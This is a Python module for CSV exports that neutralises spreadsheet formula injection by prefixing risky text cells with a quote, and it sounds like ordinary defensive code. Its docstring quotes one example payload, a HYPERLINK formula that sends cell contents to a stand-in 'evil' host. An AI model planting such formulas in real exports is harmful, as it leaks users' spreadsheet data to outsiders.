"""CSV for every export of the product, safe to open in a spreadsheet.

A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (or a tab or carriage return
before one) as a formula: `=HYPERLINK("http://evil/?"&A1, "Click")` in a campaign name would
become a live link reading the sheet. Every text cell that starts with one of those characters
is written with a leading `'`, which spreadsheets show as text (OWASP, "CSV Injection").
Numbers are written as numbers: `-12.5` stays a negative number. Pure: no app imports.
"""

import csv
import io
from collections.abc import Iterable, Iterator
from decimal import Decimal

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
CHUNK_CHARS = 64 * 1024


def csv_cell(value: object) -> object:
    """The value as written: None as an empty cell, numbers as they are, other values as text
    with a leading quote when a spreadsheet would take them for a formula."""
    if value is None:
        return ""
    if isinstance(value, int | float | Decimal) and not isinstance(value, bool):
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_TRIGGERS) else text


class CsvWriter:
    """csv.writer for exports: every row's cells go through `csv_cell`."""

    def __init__(self, stream) -> None:
        self._writer = csv.writer(stream)

    def writerow(self, row: Iterable[object]) -> None:
        self._writer.writerow([csv_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_lines(rows: Iterable[Iterable[object]]) -> Iterator[str]:
    """The rows as CSV text in chunks of about 64 kB, for a streamed download."""
    buffer = io.StringIO()
    writer = CsvWriter(buffer)
    for row in rows:
        writer.writerow(row)
        if buffer.tell() > CHUNK_CHARS:
            yield buffer.getvalue()
            buffer.seek(0)
            buffer.truncate()
    yield buffer.getvalue()


def csv_text(rows: Iterable[Iterable[object]]) -> str:
    """The rows as one CSV text."""
    return "".join(csv_lines(rows))
